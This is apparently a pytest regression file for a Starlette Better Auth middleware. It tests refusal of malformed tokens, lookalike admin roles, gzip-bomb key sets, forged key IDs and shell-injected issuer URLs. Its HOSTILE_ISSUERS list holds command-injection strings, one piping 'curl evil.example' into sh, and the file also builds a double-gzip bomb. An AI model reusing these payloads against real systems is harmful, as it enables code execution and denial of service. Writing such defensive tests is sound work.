"""Regression tests for the second round of hostile probes (issue 16), one group per item.

Each test failed before its fix. The attack classes themselves are covered more
broadly at the end of ``test_adversarial.py``.
"""

from __future__ import annotations

import copy
import gzip
import json
import logging
import math
import os
import shlex
import subprocess
import sys
import zlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from _helpers import RunCLI
from cryptography.hazmat.primitives.asymmetric import rsa
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.middleware.cors import CORSMiddleware
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse
from starlette.routing import Mount, Route
from starlette.types import Receive, Scope, Send

from starlette_betterauth import (
    BetterAuthMiddleware,
    JWKSCache,
    KeySetOptions,
    TokenVerifier,
    requires_role,
)
from starlette_betterauth.credentials import BearerJWT, SessionToken
from starlette_betterauth.errors import (
    ConfigurationError,
    ExpiredTokenError,
    InvalidSignatureError,
    KeySetInvalidError,
    MalformedTokenError,
    UnknownKeyError,
    UnsupportedAlgorithmError,
)
from starlette_betterauth.testing import Issuer, JWKSServer, SigningKey, b64url

pytestmark = pytest.mark.anyio

LOGGER = "starlette_betterauth"
ROOT = Path(__file__).resolve().parent.parent


# -- the app every HTTP test drives -----------------------------------------------------


async def claims(request: Request) -> JSONResponse:
    return JSONResponse(dict(request.user.claims))


async def roles(request: Request) -> JSONResponse:
    return JSONResponse(sorted(request.user.roles))


@requires_role("admin")
async def admin(request: Request) -> PlainTextResponse:
    return PlainTextResponse("admin")


async def mutate(request: Request) -> JSONResponse:
    """A careless handler: edits the nested claims of its user, then reports what held."""
    seen = request.user.claims
    attempts: dict[str, Callable[[], object]] = {
        "append to a list": lambda: seen["org"]["roles"].append("admin"),
        "set a list item": lambda: seen["aud"].__setitem__(0, "https://evil.example"),
        "set a member": lambda: seen["org"].__setitem__("id", "evil"),
        "delete a member": lambda: seen["org"].__delitem__("id"),
        "update": lambda: seen["org"].update(id="evil"),
        "setdefault": lambda: seen["org"].setdefault("admin", True),
        "pop": lambda: seen["org"].pop("roles"),
        "clear": lambda: seen["org"].clear(),
        "in-place or": lambda: seen["org"].__ior__({"id": "evil"}),
        "nested list in list": lambda: seen["matrix"][0].append(9),
    }
    refused = []
    for name, attempt in attempts.items():
        try:
            attempt()
        except (TypeError, AttributeError):
            refused.append(name)
    return JSONResponse({"refused": refused, "claims": dict(seen)})


def make_app(**options: Any) -> Starlette:
    return Starlette(
        routes=[
            Route("/claims", claims),
            Route("/roles", roles),
            Route("/admin", admin),
            Route("/mutate", mutate),
        ],
        middleware=[Middleware(BetterAuthMiddleware, **options)],
    )


def client_of(app: Any) -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://app")


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


@pytest.fixture
async def client(server: JWKSServer) -> AsyncIterator[httpx.AsyncClient]:
    async with client_of(make_app(base_url=server.url)) as c:
        yield c


def raw_token(key: SigningKey, header: str, payload: str) -> str:
    """A token whose header and payload are the given JSON texts, signed by ``key``."""
    signing_input = f"{b64url(header)}.{b64url(payload)}"
    return f"{signing_input}.{b64url(key.sign_bytes(signing_input.encode('ascii')))}"


def with_member(issuer: Issuer, member_json: str) -> str:
    """Genuine claims as JSON text, with one more member written verbatim."""
    return json.dumps(issuer.claims())[:-1] + f", {member_json}}}"


def header_json(key: SigningKey) -> str:
    return json.dumps({"alg": key.alg, "kid": key.kid})


# -- item 4: lone surrogates in the token's JSON ------------------------------------------

LONE_SURROGATES = {
    "high-in-a-value": '"nick": "\\ud800"',
    "low-in-a-value": '"nick": "a\\udfffb"',
    "high-at-the-end-of-a-pair-slot": '"nick": "\\ud83d x"',
    "low-before-high": '"nick": "\\ude00\\ud83d"',
    "in-a-member-name": '"\\udbff": 1',
    "in-a-nested-list": '"tags": ["ok", ["\\ud800"]]',
    "upper-case-escape": '"nick": "\\uD800"',
}


@pytest.mark.parametrize("member", LONE_SURROGATES.values(), ids=list(LONE_SURROGATES))
async def test_item4_lone_surrogate_in_payload_is_401(
    client: httpx.AsyncClient, issuer: Issuer, member: str
) -> None:
    key = issuer.current_key
    token = raw_token(key, header_json(key), with_member(issuer, member))
    for _ in range(2):  # the second time the header is known: the fast path
        response = await client.get("/claims", headers=bearer(token))
        assert response.status_code == 401, response.text
        assert "not Unicode text" in response.json()["error_description"]


async def test_item4_lone_surrogate_in_header_is_refused(
    server: JWKSServer, issuer: Issuer
) -> None:
    key = issuer.current_key
    header = json.dumps({"alg": key.alg, "kid": key.kid})[:-1] + ', "x": "\\udc00"}'
    verifier = TokenVerifier.for_server(server.url)
    with pytest.raises(MalformedTokenError, match="the header is not Unicode text"):
        await verifier.verify(raw_token(key, header, json.dumps(issuer.claims())))


@pytest.mark.parametrize(
    ("member", "value"),
    [
        ('"nick": "\\ud83d\\ude00"', "\U0001f600"),  # an escaped pair is one character
        ('"nick": "\\\\ud800"', "\\ud800"),  # an escaped backslash, then text
        ('"nick": "\U0001f600"', "\U0001f600"),
    ],
    ids=["escaped-pair", "escaped-backslash", "raw-utf8"],
)
async def test_item4_valid_unicode_still_passes(
    client: httpx.AsyncClient, issuer: Issuer, member: str, value: str
) -> None:
    key = issuer.current_key
    token = raw_token(key, header_json(key), with_member(issuer, member))
    response = await client.get("/claims", headers=bearer(token))
    assert response.status_code == 200, response.text
    assert response.json()["nick"] == value


# -- item 5: the token cache checks the key, not only its kid ---------------------------


async def test_item5_kid_reused_for_new_key_material_drops_cached_tokens(
    server: JWKSServer, issuer: Issuer
) -> None:
    old = issuer.current_key
    app = BetterAuthMiddleware(Starlette(routes=[Route("/claims", claims)]), base_url=server.url)
    token = issuer.token()
    async with client_of(app) as c:
        assert (await c.get("/claims", headers=bearer(token))).status_code == 200
        assert len(app.cache) == 1
        replacement = SigningKey(old.alg, kid=old.kid)
        server.body = json.dumps({"keys": [replacement.public_jwk]}).encode()
        await app.verifier.jwks.refresh()
        refused = await c.get("/claims", headers=bearer(token))
        assert refused.status_code == 401
        assert refused.json()["error_description"] == "the token's signature does not verify"
        fresh = replacement.sign(issuer.claims())
        assert (await c.get("/claims", headers=bearer(fresh))).status_code == 200
    with pytest.raises(InvalidSignatureError):
        await app.verifier.verify(token)


# -- item 6: roles ------------------------------------------------------------------------

LOOKALIKE_ROLES = {
    "nbsp": "admin\u00a0",
    "ideographic-space": "\u3000admin",
    "nel": "admin\x85",
    "file-separator": "admin\x1c",
    "unit-separator": "admin\x1f",
    "vertical-tab": "admin\x0b",
    "form-feed": "\x0cadmin",
    "line-separator": "admin\u2028",
    "zero-width-space": "admin\u200b",
    "in-a-list": ["user", "admin\u00a0"],
}


@pytest.mark.parametrize("role", LOOKALIKE_ROLES.values(), ids=list(LOOKALIKE_ROLES))
async def test_item6_lookalike_role_is_not_admin(
    client: httpx.AsyncClient, issuer: Issuer, role: object
) -> None:
    token = issuer.token(role=role)
    assert (await client.get("/admin", headers=bearer(token))).status_code == 403
    assert "admin" not in (await client.get("/roles", headers=bearer(token))).json()


async def test_item6_ascii_padding_is_still_stripped(
    client: httpx.AsyncClient, issuer: Issuer
) -> None:
    token = issuer.token(role=" user,\tadmin ")
    assert (await client.get("/roles", headers=bearer(token))).json() == ["admin", "user"]
    assert (await client.get("/admin", headers=bearer(token))).status_code == 200


@pytest.mark.parametrize(
    "returned",
    [{"admin": False}, {"admin": True}, b"admin", 7, iter(["admin"]), ["admin", 1], {"admin"}],
    ids=["dict-false", "dict-true", "bytes", "int", "iterator", "list-with-int", "set"],
)
async def test_item6_roles_callable_must_return_strings(
    server: JWKSServer,
    issuer: Issuer,
    caplog: pytest.LogCaptureFixture,
    returned: object,
) -> None:
    app = make_app(base_url=server.url, roles=lambda c: returned)
    token = issuer.token()
    async with client_of(app) as c:
        granted = await c.get("/roles", headers=bearer(token))
    if isinstance(returned, set):  # a set of strings is accepted
        assert granted.json() == ["admin"]
        return
    assert granted.json() == []
    assert f"the roles callable returned a {type(returned).__name__}" in caplog.text


@pytest.mark.parametrize(
    ("source", "extra", "expected"),
    [
        ("https://example.test/roles", {"https://example.test/roles": "admin"}, ["admin"]),
        ("https://example.test/roles", {"https://example.test/roles": ["a", "b"]}, ["a", "b"]),
        ("org.roles", {"org": {"roles": "owner"}}, ["owner"]),
        ("org.roles", {"org.roles": "exact", "org": {"roles": "nested"}}, ["exact"]),
    ],
    ids=["namespaced-string", "namespaced-list", "dotted-path", "exact-name-first"],
)
async def test_item6_claim_names_with_dots_are_read_exactly(
    server: JWKSServer,
    issuer: Issuer,
    source: str,
    extra: dict[str, Any],
    expected: list[str],
) -> None:
    app = make_app(base_url=server.url, roles=source)
    async with client_of(app) as c:
        token = issuer.token(role=None, **extra)
        assert (await c.get("/roles", headers=bearer(token))).json() == expected


# -- item 7: banned fails closed ----------------------------------------------------------

BANNED_SHAPES: dict[str, object] = {
    "string-true": "true",
    "string-false": "false",
    "one": 1,
    "zero": 0,
    "list-true": [True],
    "empty-list": [],
    "object": {"banned": True},
    "empty-string": "",
}


@pytest.mark.parametrize("value", BANNED_SHAPES.values(), ids=list(BANNED_SHAPES))
async def test_item7_banned_that_is_not_false_or_null_is_403(
    client: httpx.AsyncClient, issuer: Issuer, value: object
) -> None:
    response = await client.get("/claims", headers=bearer(issuer.token(banned=value)))
    assert response.status_code == 403
    assert response.json()["error_description"] == (
        "the banned claim is neither false nor null; the user is treated as banned"
    )


@pytest.mark.parametrize("value", [False, None, "absent"], ids=["false", "null", "absent"])
async def test_item7_false_null_or_absent_is_not_banned(
    client: httpx.AsyncClient, issuer: Issuer, value: object
) -> None:
    token = issuer.token(role=None) if value == "absent" else issuer.token(banned=value)
    assert (await client.get("/claims", headers=bearer(token))).status_code == 200


async def test_item7_allow_banned_accepts_every_shape(server: JWKSServer, issuer: Issuer) -> None:
    async with client_of(make_app(base_url=server.url, allow_banned=True)) as c:
        for value in (True, *BANNED_SHAPES.values()):
            token = issuer.token(banned=value)
            assert (await c.get("/claims", headers=bearer(token))).status_code == 200


# -- item 8: leeway is bounded ------------------------------------------------------------


@pytest.mark.parametrize("leeway", [math.inf, 1e12, 300.5, 86400, -1, math.nan, -math.inf], ids=str)
def test_item8_leeway_out_of_bounds_is_a_configuration_error(leeway: float) -> None:
    bound = r"leeway must be (a number of seconds >= 0|at most 300 seconds)"
    with pytest.raises(ConfigurationError, match=bound):
        TokenVerifier.for_server("https://auth.example.com", leeway=leeway)
    with pytest.raises(ConfigurationError, match=bound):
        TokenVerifier(
            JWKSCache("https://auth.example.com/jwks"), issuer=None, audience=None, leeway=leeway
        )

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        raise AssertionError("not called")

    with pytest.raises(ConfigurationError, match="leeway"):
        BetterAuthMiddleware(app, base_url="https://auth.example.com", leeway=leeway)


@pytest.mark.parametrize("leeway", [0, 0.5, 10, 300])
def test_item8_leeway_within_bounds_is_accepted(leeway: float) -> None:
    verifier = TokenVerifier.for_server("https://auth.example.com", leeway=leeway)
    assert verifier.rules.leeway == leeway


async def test_item8_expired_token_is_refused_with_the_largest_leeway(
    server: JWKSServer, issuer: Issuer
) -> None:
    verifier = TokenVerifier.for_server(server.url, leeway=300)
    with pytest.raises(ExpiredTokenError):
        await verifier.verify(issuer.token(expires_in=-301))


# -- item 9: RSA keys -----------------------------------------------------------------------


def rsa_jwk(kid: str, e: int, **members: Any) -> dict[str, Any]:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    n = private.public_key().public_numbers().n
    return {
        "kty": "RSA",
        "kid": kid,
        "n": b64url(n.to_bytes(256, "big")),
        "e": b64url(e.to_bytes((e.bit_length() + 7) // 8, "big")),
        **members,
    }


@pytest.mark.parametrize(
    "e", [2**2046 + 1, 2**64 + 1, 2**32 + 15], ids=["2047-bit", "65-bit", "33-bit"]
)
async def test_item9_huge_rsa_exponent_is_skipped(
    server: JWKSServer, issuer: Issuer, e: int
) -> None:
    server.body = json.dumps(
        {"keys": [issuer.current_key.public_jwk, rsa_jwk("big-e", e, alg="RS256")]}
    ).encode()
    verifier = TokenVerifier.for_server(server.url)
    await verifier.jwks.refresh()
    assert verifier.jwks.status().kids == (issuer.current_key.kid,)
    (label, reason), *_ = verifier.jwks.status().skipped
    assert label == "'big-e'"
    assert reason == (
        f"its RSA public exponent has {e.bit_length()} bits, more than 32 (65537 is usual)"
    )


@pytest.mark.parametrize("e", [3, 65537, 2**32 - 1], ids=["3", "65537", "32-bit"])
async def test_item9_usual_rsa_exponents_are_kept(server: JWKSServer, e: int) -> None:
    server.body = json.dumps({"keys": [rsa_jwk("ok", e, alg="RS256")]}).encode()
    verifier = TokenVerifier.for_server(server.url)
    await verifier.jwks.refresh()
    assert verifier.jwks.status().kids == ("ok",)


async def test_item9_rsa_key_without_alg_verifies_rs256_only(
    server: JWKSServer, issuer: Issuer
) -> None:
    rs = SigningKey("RS256")
    ps = SigningKey("PS256", kid=rs.kid)
    ps.private_key = rs.private_key
    jwk = rs.public_jwk
    del jwk["alg"]
    server.body = json.dumps({"keys": [jwk]}).encode()
    verifier = TokenVerifier.for_server(server.url)
    await verifier.verify(rs.sign(issuer.claims()))
    with pytest.raises(
        UnsupportedAlgorithmError, match=r"is not the algorithm of key .* \(RS256\)"
    ):
        await verifier.verify(ps.sign(issuer.claims()))
    assert verifier.jwks.keys[rs.kid].algorithms == frozenset({"RS256"})


async def test_item9_rsa_key_without_alg_when_rs256_is_not_accepted(server: JWKSServer) -> None:
    jwk = SigningKey("RS256").public_jwk
    del jwk["alg"]
    server.body = json.dumps({"keys": [jwk]}).encode()
    verifier = TokenVerifier.for_server(server.url, algorithms=["PS256"])
    with pytest.raises(KeySetInvalidError) as raised:
        await verifier.jwks.refresh()
    assert raised.value.message == (
        f"the key set has no usable key ({jwk['kid']!r}: none of its algorithms (RS256) "
        "is accepted (a RSA key without alg is taken as RS256))"
    )


# -- item 11: 503 bodies say nothing of the key set ------------------------------------------


@pytest.mark.parametrize("fault", ["unusable-keys", "http-500"])
async def test_item11_503_body_is_generic_and_the_log_has_the_details(
    server: JWKSServer,
    issuer: Issuer,
    caplog: pytest.LogCaptureFixture,
    fault: str,
) -> None:
    caplog.set_level(logging.WARNING, logger=LOGGER)
    if fault == "http-500":
        server.status = 500
        detail = "the key server answered HTTP 500"
    else:
        secret_kid = "internal-kid-7f3a"
        server.body = json.dumps(
            {"keys": [{"kid": secret_kid, "kty": "oct", "k": "c2VjcmV0"}]}
        ).encode()
        detail = f"'{secret_kid}': it holds private or symmetric key material"
    async with client_of(make_app(base_url=server.url)) as c:
        response = await c.get("/claims", headers=bearer(issuer.token()))
    assert response.status_code == 503
    assert response.json() == {
        "error": "temporarily_unavailable",
        "error_description": "the credentials cannot be checked now; retry later",
    }
    assert response.headers["www-authenticate"] == "Bearer"
    assert response.headers["retry-after"] == "5"
    assert detail not in response.text
    assert detail in caplog.text


# -- item 12: nested claims are read-only -------------------------------------------------


async def test_item12_handlers_cannot_change_what_the_next_request_reads(
    client: httpx.AsyncClient, issuer: Issuer
) -> None:
    aud = [issuer.base_url, "https://api.example"]
    org = {"id": "acme", "roles": ["member"]}
    token = issuer.token(aud=aud, org=org, matrix=[[1, 2]])
    first = (await client.get("/mutate", headers=bearer(token))).json()
    second = (await client.get("/mutate", headers=bearer(token))).json()
    assert len(first["refused"]) == 10, first["refused"]
    for seen in (first["claims"], second["claims"]):
        assert seen["org"] == org
        assert seen["aud"] == aud
        assert seen["matrix"] == [[1, 2]]


async def copies(request: Request) -> JSONResponse:
    """A handler that changes copies of its user's claims, as docs/configuration.md advises."""
    seen = request.user.claims
    shallow = dict(seen)
    shallow["org"] = dict(seen["org"])
    shallow["org"]["id"] = "changed"
    deep = copy.deepcopy(dict(seen))  # objects copy as plain dicts; arrays stay tuples
    deep["org"]["meta"]["tier"] = 2
    deep["org"]["roles"] += ("admin",)
    one = copy.copy(seen["org"])
    one["id"] = "changed"
    return JSONResponse({"types": [type(seen["org"]).__name__, type(seen["aud"]).__name__]})


@pytest.mark.parametrize("kind", ["jwt", "session_token"])
async def test_item12_claims_are_read_only_for_every_credential_kind(
    server: JWKSServer, issuer: Issuer, kind: str
) -> None:
    org = {"id": "acme", "roles": ["member"], "meta": {"tier": 1}}
    aud = [issuer.base_url, "https://api.example"]
    app = BetterAuthMiddleware(
        Starlette(
            routes=[Route("/mutate", mutate), Route("/copies", copies), Route("/claims", claims)]
        ),
        base_url=server.url,
        accept=[BearerJWT(), SessionToken()],
    )
    if kind == "jwt":
        credential = issuer.token(aud=aud, org=org, matrix=[[1, 2]])
    else:
        credential = issuer.session(aud=aud, org=org, matrix=[[1, 2]]).token
    async with client_of(app) as c:
        first = (await c.get("/mutate", headers=bearer(credential))).json()
        copied = (await c.get("/copies", headers=bearer(credential))).json()
        after = (await c.get("/claims", headers=bearer(credential))).json()
    await app.aclose()
    assert len(first["refused"]) == 10, first["refused"]
    assert copied["types"][1] == "tuple"
    assert (after["org"], after["aud"], after["matrix"]) == (org, aud, [[1, 2]])


async def test_item12_the_top_level_is_read_only_too(server: JWKSServer, issuer: Issuer) -> None:
    async def assign(request: Request) -> JSONResponse:
        try:
            request.user.claims["role"] = "admin"
        except TypeError:
            return JSONResponse({"refused": True})
        return JSONResponse({"refused": False})

    app = BetterAuthMiddleware(
        Starlette(routes=[Route("/assign", assign), Route("/roles", roles)]),
        base_url=server.url,
        accept=[SessionToken()],
    )
    credential = issuer.session(role="user").token
    async with client_of(app) as c:
        assert (await c.get("/assign", headers=bearer(credential))).json() == {"refused": True}
        assert (await c.get("/roles", headers=bearer(credential))).json() == ["user"]
    await app.aclose()


# -- item 13: public routes ------------------------------------------------------------------


async def protected(scope: Scope, receive: Receive, send: Send) -> None:
    """A mounted app that answers every method with its protected body."""
    await send({"type": "http.response.start", "status": 200, "headers": []})
    await send({"type": "http.response.body", "body": b"protected"})


PREFLIGHT_HEADERS = {"origin": "https://app.example", "access-control-request-method": "GET"}


def public_app(server: JWKSServer, rules: list[str], *, cors: bool = False) -> Starlette:
    middleware = [Middleware(BetterAuthMiddleware, base_url=server.url, public=rules)]
    if cors:
        cors_layer = Middleware(
            CORSMiddleware,
            allow_origins=["https://app.example"],
            allow_methods=["GET"],
            allow_headers=["Authorization"],
        )
        middleware.insert(0, cors_layer)  # first in the list is outermost
    return Starlette(
        routes=[Route("/docs", claims), Mount("/api", app=protected)], middleware=middleware
    )


@pytest.mark.parametrize(
    ("method", "path", "headers", "status"),
    [
        ("OPTIONS", "/api/admin", PREFLIGHT_HEADERS, 200),
        ("OPTIONS", "/api/admin", {}, 401),
        ("OPTIONS", "/api/admin", {"origin": "https://app.example"}, 401),
        ("OPTIONS", "/api/admin", {"access-control-request-method": "GET"}, 401),
        ("GET", "/api/admin", PREFLIGHT_HEADERS, 401),
        ("POST", "/api/admin", PREFLIGHT_HEADERS, 401),
    ],
    ids=["preflight", "bare-options", "origin-only", "method-only", "get", "post"],
)
async def test_item13_preflight_rule_lets_only_preflights_through(
    server: JWKSServer, method: str, path: str, headers: dict[str, str], status: int
) -> None:
    async with client_of(public_app(server, ["PREFLIGHT /*"])) as c:
        response = await c.request(method, path, headers=headers)
    assert response.status_code == status
    assert (response.text == "protected") is (status == 200)


async def anything(request: Request) -> PlainTextResponse:
    return PlainTextResponse("anonymous" if request.state.user is None else "signed in")


@pytest.mark.parametrize(
    ("rule", "path", "public"),
    [
        ("GET /docs/*", "/docs", True),
        ("GET /docs/*", "/docs/", True),
        ("GET /docs/*", "/docs/oauth2-redirect", True),
        ("GET /docs/*", "/docs-internal", False),
        ("GET /docs/*", "/docsx/y", False),
        ("GET /docs/*", "/doc", False),
        ("GET /docs/*", "/api/docs", False),
        ("/static/*", "/static.bak", False),
        ("/static/*", "/static/app.js", True),
        ("/*", "/anything/at/all", True),
    ],
)
async def test_item13_prefix_rules_are_segment_aware(
    server: JWKSServer, rule: str, path: str, public: bool
) -> None:
    app = Starlette(
        routes=[Route("/{rest:path}", anything)],
        middleware=[Middleware(BetterAuthMiddleware, base_url=server.url, public=[rule])],
    )
    async with client_of(app) as c:
        response = await c.get(path)
    assert response.status_code == (200 if public else 401)


@pytest.mark.parametrize("rule", ["GET /docs*", "/static/img*", "/api/v1*"])
def test_item13_a_star_not_after_a_slash_is_refused(rule: str) -> None:
    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        raise AssertionError("not called")

    prefix = rule.split()[-1][:-1]
    with pytest.raises(ConfigurationError, match=f"write '{prefix}/\\*'") as raised:
        BetterAuthMiddleware(app, base_url="https://auth.example.com", public=[rule])
    assert f"would also match '{prefix}-internal'" in str(raised.value)


async def test_item13_cors_outside_answers_preflights_before_authentication(
    server: JWKSServer,
) -> None:
    async with client_of(public_app(server, [], cors=True)) as c:
        preflight = await c.options("/api/admin", headers=PREFLIGHT_HEADERS)
        bare = await c.options("/api/admin")
        anonymous = await c.get("/api/admin", headers={"origin": "https://app.example"})
    assert preflight.status_code == 200
    assert preflight.headers["access-control-allow-origin"] == "https://app.example"
    assert preflight.text != "protected"
    assert bare.status_code == 401
    # The refusal carries the CORS headers, so the browser shows the page the 401.
    assert anonymous.status_code == 401
    assert anonymous.headers["access-control-allow-origin"] == "https://app.example"


# -- item 5, continued: an unchanged key keeps its cached tokens ----------------------------


async def test_item5_unchanged_key_keeps_cached_tokens_across_refetches(
    server: JWKSServer, issuer: Issuer
) -> None:
    seen: list[tuple[str, dict[str, Any]]] = []
    app = BetterAuthMiddleware(
        Starlette(routes=[Route("/claims", claims)]),
        base_url=server.url,
        on_event=lambda name, data: seen.append((name, dict(data))),
    )
    token = issuer.token()
    async with client_of(app) as c:
        assert (await c.get("/claims", headers=bearer(token))).status_code == 200
        key = app.verifier.jwks.keys[issuer.current_key.kid]
        await app.verifier.jwks.refresh()
        assert app.verifier.jwks.keys[issuer.current_key.kid] is key
        assert (await c.get("/claims", headers=bearer(token))).status_code == 200
        replacement = SigningKey(issuer.current_key.alg, kid=issuer.current_key.kid)
        server.body = json.dumps({"keys": [replacement.public_jwk]}).encode()
        await app.verifier.jwks.refresh()
    accepted = [data["cached"] for name, data in seen if name == "accepted"]
    assert accepted == [False, True]
    refreshes = [data for name, data in seen if name == "jwks_refresh"]
    assert [(r["gained"], r["lost"], r["replaced"]) for r in refreshes] == [
        ([issuer.current_key.kid], [], []),
        ([], [], []),
        ([], [], [issuer.current_key.kid]),
    ]


# -- item 1: compressed key sets are refused before they are decoded -------------------------


def gzipped(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = gzip.compress(data, mtime=0)
    return data


@pytest.mark.parametrize(
    ("encoding", "body"),
    [
        ("gzip, gzip", gzipped(b" " * (16 * 1024 * 1024), 2)),
        ("gzip", gzipped(b'{"keys": []}', 1)),
        ("deflate", zlib.compress(b'{"keys": []}')),
        ("br", b"\x0b\x02\x80{}\x03"),
        ("identity, gzip", gzipped(b"{}", 1)),
        ("x-unknown", b"{}"),
    ],
    ids=["gzip-gzip-bomb", "gzip", "deflate", "br", "identity-then-gzip", "unknown"],
)
async def test_item1_content_encoded_key_set_is_refused_undecoded(
    server: JWKSServer, encoding: str, body: bytes
) -> None:
    sent: list[httpx.Headers] = []

    async def record(request: httpx.Request) -> None:
        sent.append(request.headers)

    server.body = body
    server.headers = {"Content-Encoding": encoding}
    async with httpx.AsyncClient(event_hooks={"request": [record]}) as http:
        cache = JWKSCache(server.jwks_url, client=http)
        with pytest.raises(KeySetInvalidError) as raised:
            await cache.refresh()
    assert raised.value.message == (
        f"the key server answered Content-Encoding {encoding!r} although the key set is asked "
        "for uncompressed (Accept-Encoding: identity); serve it without compression"
    )
    assert [headers["accept-encoding"] for headers in sent] == ["identity"]


@pytest.mark.parametrize("encoding", ["identity", "", "Identity"])
async def test_item1_identity_encoded_key_set_is_read(
    server: JWKSServer, issuer: Issuer, encoding: str
) -> None:
    server.headers = {"Content-Encoding": encoding}
    cache = JWKSCache(server.jwks_url)
    try:
        assert (await cache.get_key(issuer.current_key.kid)).kid == issuer.current_key.kid
    finally:
        await cache.aclose()


async def test_item1_get_session_is_asked_uncompressed_and_refuses_a_bomb(
    server: JWKSServer, issuer: Issuer, caplog: pytest.LogCaptureFixture
) -> None:
    session = issuer.session()
    server.session_body = gzipped(b" " * (16 * 1024 * 1024), 2)
    server.session_headers = {"Content-Encoding": "gzip, gzip"}
    app = BetterAuthMiddleware(
        Starlette(routes=[Route("/claims", claims)]),
        base_url=server.url,
        accept=[SessionToken()],
    )
    async with client_of(app) as c:
        response = await c.get("/claims", headers=bearer(session.token))
    await app.aclose()
    assert response.status_code == 503
    assert response.json()["error_description"] == (
        "the credentials cannot be checked now; retry later"
    )
    assert (
        "get-session answered Content-Encoding 'gzip, gzip' although it is asked for "
        "uncompressed (Accept-Encoding: identity)"
    ) in caplog.text


# -- item 10: key sets over 100 entries ------------------------------------------------------


@pytest.mark.parametrize(
    ("listed", "label"), [(101, "key #100"), (150, "keys #100-#149"), (1000, "keys #100-#999")]
)
async def test_item10_keys_past_the_hundredth_are_counted_as_skipped(
    server: JWKSServer,
    issuer: Issuer,
    caplog: pytest.LogCaptureFixture,
    listed: int,
    label: str,
) -> None:
    caplog.set_level(logging.WARNING, logger=LOGGER)
    jwk = issuer.current_key.public_jwk
    server.body = json.dumps({"keys": [dict(jwk, kid=f"k{i}") for i in range(listed)]}).encode()
    cache = JWKSCache(server.jwks_url)
    await cache.refresh()
    await cache.aclose()
    status = cache.status()
    assert len(status.kids) == 100
    reason = (
        f"the key set lists {listed} keys; only the first 100 are read ({listed - 100} left out)"
    )
    assert status.skipped == ((label, reason),)
    assert f"skipping {label}: {reason}" in caplog.text


async def test_item10_skipped_keys_are_logged_in_bounded_lines(
    server: JWKSServer, issuer: Issuer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger=LOGGER)
    good = issuer.current_key.public_jwk
    bad = [{"kid": f"hmac-{i}", "kty": "oct", "k": "c2VjcmV0"} for i in range(60)]
    server.body = json.dumps({"keys": [good, *bad]}).encode()
    cache = JWKSCache(server.jwks_url)
    await cache.refresh()
    await cache.aclose()
    assert len(cache.status().skipped) == 60
    lines = [r.getMessage() for r in caplog.records if "skipping" in r.getMessage()]
    assert len(lines) == 11
    assert lines[-1].endswith("skipping 50 more keys (KeySetStatus.skipped lists them all)")


# -- item 14: a kid the last refetch did not have is refused at once ---------------------------


async def test_item14_replayed_unknown_kid_is_refused_without_waiting(
    server: JWKSServer, issuer: Issuer
) -> None:
    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=1.0))
    await cache.get_key(issuer.current_key.kid)
    with pytest.raises(UnknownKeyError):
        await cache.get_key("forged-kid")  # waits for the cooldown, then one refetch
    assert server.requests == 2
    refused = 0

    async def replay() -> None:
        nonlocal refused
        try:
            await cache.get_key("forged-kid")
        except UnknownKeyError:
            refused += 1

    # Inside the cooldown, the kid that refetch did not have neither waits nor
    # causes another fetch (before: each waited for the cooldown, then refetched).
    async with anyio.create_task_group() as group:
        for _ in range(50):
            group.start_soon(replay)
    assert refused == 50
    assert server.requests == 2
    # A truly new kid still waits for the next refetch and is accepted on first use.
    rotated = issuer.rotate()
    assert (await cache.get_key(rotated.kid)).kid == rotated.kid
    assert server.requests == 3
    await cache.aclose()


async def test_item14_a_missed_kid_that_appears_later_is_accepted(
    server: JWKSServer, issuer: Issuer
) -> None:
    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=0.2))
    late = SigningKey("EdDSA", kid="late-kid")
    await cache.get_key(issuer.current_key.kid)
    with pytest.raises(UnknownKeyError):
        await cache.get_key(late.kid)
    issuer.keys.append(late)  # published after the refetch that missed it
    await anyio.sleep(0.3)  # past the cooldown: the kid may trigger a refetch again
    assert (await cache.get_key(late.kid)).kid == late.kid
    await cache.aclose()


async def test_item14_the_memory_of_missed_kids_is_bounded(
    server: JWKSServer, issuer: Issuer
) -> None:
    cache = JWKSCache(server.jwks_url, options=KeySetOptions(refresh_cooldown=0))
    await cache.get_key(issuer.current_key.kid)
    for index in range(1100):
        with pytest.raises(UnknownKeyError):
            await cache.get_key(f"forged-{index}")
    assert len(cache._absent) == 1024
    assert "forged-0" not in cache._absent
    assert "forged-1099" in cache._absent
    await cache.aclose()


# -- items 2 and 3: the command line ----------------------------------------------------------


HOSTILE_ISSUERS = [
    "https://auth.example.com/$(touch pwned);curl${IFS}evil.example|sh",
    "https://auth.example.com/`touch pwned`",
    "https://auth.example.com/'; touch pwned; echo '",
    'https://auth.example.com/"$(touch pwned)"',
    "https://auth.example.com/ && touch pwned",
    "https://auth.example.com/\n touch pwned",
    "https://auth.example.com/#; touch pwned",
]


@pytest.mark.parametrize("iss", HOSTILE_ISSUERS, ids=range(len(HOSTILE_ISSUERS)))
def test_item2_suggested_verify_command_is_quoted(
    cli: RunCLI, issuer: Issuer, tmp_path: Path, iss: str
) -> None:
    code, out, _ = cli("inspect", issuer.token(iss=iss))
    assert code == 0
    lines = out.splitlines()
    suggestion = next(line for line in lines if "starlette-betterauth verify -" in line)
    assert lines[lines.index(suggestion) - 2 : lines.index(suggestion)] == [
        "to verify it against the server its iss names (that trusts the token's own",
        "word: a forged token names its forger's server; prefer your server's URL):",
    ]
    # Pasted into a shell, the line passes the issuer as one argument and runs nothing
    # else: printf stands in for the program.
    pasted = suggestion.strip().replace("starlette-betterauth", "printf '%s\\n'", 1)
    shell = subprocess.run(
        ["/bin/sh", "-c", pasted], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    assert shell.stdout.splitlines()[:3] == ["verify", "-", "--base-url"]
    assert shlex.split(suggestion)[4:] == [shell.stdout.splitlines()[3]]
    assert list(tmp_path.iterdir()) == []


